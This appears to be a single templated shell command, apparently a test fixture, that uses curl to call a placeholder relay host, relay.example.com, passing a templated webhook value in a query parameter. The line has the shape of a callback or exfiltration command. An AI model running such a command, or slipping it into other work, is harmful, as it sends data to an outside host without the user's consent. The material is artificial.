curl "https://relay.example.com/?u={{pcturl:fake.webhookshort}}"
